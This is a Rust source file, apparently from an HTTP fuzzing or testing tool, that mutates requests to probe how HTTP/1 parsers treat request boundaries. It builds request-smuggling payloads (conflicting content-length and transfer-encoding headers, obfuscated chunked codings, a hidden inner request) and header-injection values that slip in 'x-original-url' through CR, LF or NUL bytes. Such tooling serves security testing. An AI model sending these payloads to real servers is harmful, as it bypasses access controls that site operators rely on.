//! Mutators for request boundaries and line ends, which HTTP/1 leaves open to abuse.

use crate::generate::Draft;
use crate::mutate::Mutator;
use crate::random::Random;
use crate::request::{Field, Http1, Wire};

pub(crate) const MUTATORS: [Mutator; 5] = [
    Mutator { name: "smuggling", apply: smuggling },
    Mutator { name: "line-ends", apply: line_ends },
    Mutator { name: "header-lines", apply: header_lines },
    Mutator { name: "version", apply: version },
    Mutator { name: "request-line", apply: request_line },
];

/// Returns the draft's HTTP/1 form. Changes an HTTP/2 draft back to HTTP/1.
fn http1(draft: &mut Draft) -> &mut Http1 {
    if draft.request.wire == Wire::Http2 {
        draft.request.wire = Wire::Http1(Http1::default());
    }
    match &mut draft.request.wire {
        Wire::Http1(wire) => wire,
        Wire::Http2 | Wire::Raw(_) => panic!("a draft is one or the other"),
    }
}

/// A permitted request whose possible body is the request for the goal.
fn smuggling(draft: &mut Draft, random: &mut Random) {
    let (method, host) = (draft.goal.method, draft.goal.host);
    let path = String::from_utf8_lossy(draft.path()).into_owned();
    let inner = format!("{method} {path} HTTP/1.1\r\nhost: {host}\r\nx-bench: @NUMBER@\r\n\r\n");
    draft.take_cover();
    let length = |count: usize| field(b"content-length", count.to_string().as_bytes());
    let chunk = [b"0\r\n\r\n", inner.as_bytes()].concat();
    let coding = field(b"transfer-encoding", coding(random));
    let (headers, after): (Vec<Field>, Vec<u8>) = match random.below(8) {
        0 => (vec![length(chunk.len()), coding], chunk),
        1 => (vec![coding, length(5)], chunk),
        2 => (vec![length(0), length(inner.len())], inner.into_bytes()),
        3 => (vec![length(inner.len())], inner.into_bytes()),
        4 => (vec![field(b"content-length", &odd_length(inner.len(), random))], inner.into_bytes()),
        5 => (vec![coding], chunk),
        6 => {
            let extended = format!("1;x=\"\r\n{inner}\r\n0\r\n\r\n");
            (vec![field(b"transfer-encoding", b"chunked")], extended.into_bytes())
        }
        _ => (vec![field(b"content-length\x0b", inner.len().to_string().as_bytes())], inner.into_bytes()),
    };
    draft.request.headers.extend(headers);
    http1(draft).after = after;
}

fn field(name: &[u8], value: &[u8]) -> Field {
    (name.to_vec(), value.to_vec())
}

fn coding(random: &mut Random) -> &'static [u8] {
    let codings: [&'static [u8]; 10] = [
        b"chunked",
        b"Chunked",
        b"chunked, identity",
        b"identity, chunked",
        b"xchunked",
        b" chunked\t",
        b"chunked\x0b",
        b"\"chunked\"",
        b"chunked\r\ntransfer-encoding: x",
        b"chunked;x=1",
    ];
    random.one_of(&codings)
}

fn odd_length(length: usize, random: &mut Random) -> Vec<u8> {
    let odd = match random.below(6) {
        0 => format!("+{length}"),
        1 => format!("0x{length:x}"),
        2 => format!("{length},{length}"),
        3 => format!("0, {length}"),
        4 => format!("0{length}"),
        _ => "-1".to_owned(),
    };
    odd.into_bytes()
}

fn line_ends(draft: &mut Draft, random: &mut Random) {
    let end: &[u8] = random.one_of(&[&b"\n"[..], b"\r", b"\r\r\n", b"\n\r"]);
    http1(draft).end = end;
}

/// Header lines that some programs read as two lines, or ignore.
fn header_lines(draft: &mut Draft, random: &mut Random) {
    let path = draft.goal.path.as_bytes();
    http1(draft);
    if random.once_in(2) {
        draft.take_cover();
    }
    let value = |start: &[u8]| [start, path].concat();
    let (name, value): (&[u8], Vec<u8>) = match random.below(9) {
        0 => (b"x-a", value(b"b\nx-original-url: ")),
        1 => (b"x-a", value(b"b\rx-original-url: ")),
        2 => (b"x-a", value(b"b\r\n x-original-url: ")),
        3 => (b"x-original-url ", value(b"")),
        4 => (b" x-original-url", value(b"")),
        5 => (b"x-original-url\t", value(b"")),
        6 => (b"x-a", value(b"b\0x-original-url: ")),
        7 => (b"x-a\0", value(b"")),
        _ => (b"x-a", value(b"b\x85x-original-url: ")),
    };
    draft.request.add(name, &value);
}

fn version(draft: &mut Draft, random: &mut Random) {
    let version: &[u8] = random.one_of(&[
        &b"HTTP/1.0"[..],
        b"HTTP/0.9",
        b"HTTP/2.0",
        b"HTTP/1.2",
        b"http/1.1",
        b"HTTP/1.1 ",
        b"HTTP/01.1",
        b"",
        b"x HTTP/1.1",
    ]);
    http1(draft).version = version;
}

fn request_line(draft: &mut Draft, random: &mut Random) {
    let before: &[u8] = random.one_of(&[
        &b"\r\n"[..],
        b"\n\n",
        b" ",
        b"\0",
        b"\xef\xbb\xbf",
        b"GET /healthz HTTP/1.1\r\n",
        b"GET /healthz\r\n",
        b"\t",
    ]);
    http1(draft).before = before.to_vec();
}
